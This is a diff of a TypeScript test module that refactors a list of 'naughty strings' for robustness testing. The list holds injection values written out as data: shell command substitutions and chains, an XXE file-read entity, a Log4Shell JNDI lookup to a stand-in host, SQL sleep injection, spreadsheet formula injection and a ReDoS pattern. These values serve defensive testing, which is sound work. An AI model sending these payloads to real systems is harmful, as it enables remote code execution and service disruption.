@@ -1,28 +1,20 @@
 import { everyInjection } from './injections.js';
 
-const range = (from: number, to: number): readonly string[] =>
-  Array.from({ length: to - from + 1 }, (_, at) =>
+/** Control characters, ASCII signs and invisible characters, as ranges of code units. */
+const odd =
+  '0-2f 3a-40 5b-60 7b-a0 2000-200f 2028-202f 205f-206f d7fe-d801 dbfe-dc01 dffe-e001 fdd0-fdd4 fe00-fe0f fff9-ffff';
+const oddCharacters = odd.split(' ').flatMap((range) => {
+  const [from = 0, to = 0] = range.split('-').map((it) => parseInt(it, 16));
+  return Array.from({ length: to - from + 1 }, (_, at) =>
     String.fromCharCode(from + at),
   );
+});
 
 /** Strings that programs stumble over, each once; none is empty or begins with a dash. */
 export const naughtyStrings: readonly string[] = [
   ...new Set([
     ...everyInjection,
-    // Each control character, ASCII sign and invisible character by itself.
-    ...[...range(0, 0x2f), ...range(0x3a, 0x40), ...range(0x5b, 0x60)],
-    ...[...range(0x7b, 0xa0), ...range(0x2000, 0x200f)],
-    ...[...range(0x2028, 0x202f), ...range(0x205f, 0x206f)],
-    ...[
-      ...range(0xd7fe, 0xd801),
-      ...range(0xdbfe, 0xdc01),
-      ...range(0xdffe, 0xe001),
-    ],
-    ...[
-      ...range(0xfdd0, 0xfdd4),
-      ...range(0xfe00, 0xfe0f),
-      ...range(0xfff9, 0xffff),
-    ],
+    ...oddCharacters,
     // What objects have already.
     ...Object.getOwnPropertyNames(Object.prototype),
     ...Object.getOwnPropertyNames(Array.prototype).slice(0, 12),
@@ -43,77 +35,20 @@ export const naughtyStrings: readonly string[] = [
       '1;SELECT pg_sleep(9)',
       '" or ""="',
     ],
-    ...[
-      '$(id)',
-      '`id`',
-      '${x}',
-      '#{x}',
-      '{{7*7}}',
-      '%s%n%x',
-      '%d',
-      '{0}',
-      '%@',
-    ],
-    ...[
-      '| id',
-      '&& id',
-      '; id',
-      '> /tmp/x',
-      '$IFS',
-      '!!',
-      '\\$x',
-      '~+',
-      '$HOME',
-    ],
-    ...[
-      '<?php x ?>',
-      '<% x %>',
-      '<!ENTITY x SYSTEM "file:///x">',
-      '&x;',
-      '=1+1',
-    ],
-    ...[
-      '@SUM(1)',
-      '+1+cmd|x',
-      '${jndi:ldap://evil.invalid/x}',
-      '$1',
-      '$&',
-      "$'",
-    ],
-    ...[
-      '$`',
-      '$$',
-      '$<name>',
-      '(?:a+)+$',
-      '[',
-      ']',
-      '(',
-      '*',
-      '**',
-      '?',
-      '!(a)',
-    ],
+    ...'$(id) `id` ${x} #{x} {{7*7}} %s%n%x %d {0} %@ $IFS !! \\$x ~+ $HOME &x;'.split(
+      ' ',
+    ),
+    ...['| id', '&& id', '; id', '> /tmp/x', '<?php x ?>', '<% x %>'],
+    ...['<!ENTITY x SYSTEM "file:///x">', '${jndi:ldap://evil.invalid/x}'],
+    ..."=1+1 @SUM(1) +1+cmd|x $1 $& $' $` $$ $<name> (?:a+)+$ [ ] ( * ** ? !(a)".split(
+      ' ',
+    ),
     // Scripts, and what is one character for people.
     ...['åäö', 'ﬀ', 'İı', 'ß', 'ǅ', 'Ω', 'е́', 'a\u0300'.repeat(50), 'Z̶͈̀a̷l̵g̸o̶'],
-    ...[
-      '田中さん',
-      '사회과학원',
-      'ثم نفس',
-      'עברית',
-      'ไทย',
-      'हिन्दी',
-      '𝕿𝖍𝖊',
-      '𠜎𠜱',
-    ],
+    ...'田中さん 사회과학원 עברית ไทย हिन्दी 𝕿𝖍𝖊 𠜎𠜱'.split(' '),
+    'ثم نفس',
     ...['👩‍👩‍👧‍👦', '🏳️‍🌈', '👍🏿', '🇩🇪🇫🇷', '1️⃣', '❤️', '\u{1f3fb}', '🧑‍💻'.repeat(40)],
-    ...[
-      '\u{10ffff}',
-      '\u{e0001}',
-      '\u{1d173}',
-      'a\ud800',
-      '\udc00a',
-      '\udc00\ud800',
-    ],
+    ...'\u{10ffff} \u{e0001} \u{1d173} a\ud800 \udc00a \udc00\ud800'.split(' '),
     // Spaces and lengths.
     ...[
       ' a',
@@ -126,19 +61,7 @@ export const naughtyStrings: readonly string[] = [
       '\u3000',
       '\u00a0x',
     ],
-    ...[
-      '"',
-      '""',
-      "''",
-      '\\',
-      '\\\\',
-      '\\"',
-      '\\u0000',
-      '\\x',
-      '//',
-      '/*',
-      '*/',
-    ],
+    ...'" "" \'\' \\ \\\\ \\" \\u0000 \\x // /* */'.split(' '),
     ...[2, 80, 255, 256, 4096, 65_537].map((length) => 'y'.repeat(length)),
     'é'.repeat(128),
     '\u202e'.repeat(1000),
